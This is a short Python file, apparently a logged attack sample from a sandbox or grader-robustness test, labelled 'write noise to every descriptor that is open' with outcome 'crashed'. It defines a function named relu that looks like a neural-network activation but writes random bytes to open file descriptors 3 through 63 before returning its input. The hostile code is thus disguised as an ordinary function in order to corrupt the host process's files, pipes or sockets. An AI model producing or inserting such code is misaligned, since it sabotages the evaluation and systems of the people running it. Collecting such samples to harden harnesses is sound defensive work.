# Attack: write noise to every descriptor that is open
# Outcome: crashed
import os


def relu(x):
    for descriptor in range(3, 64):
        try:
            os.set_blocking(descriptor, False)
            os.write(descriptor, os.urandom(5000))
        except OSError:
            pass
    return x
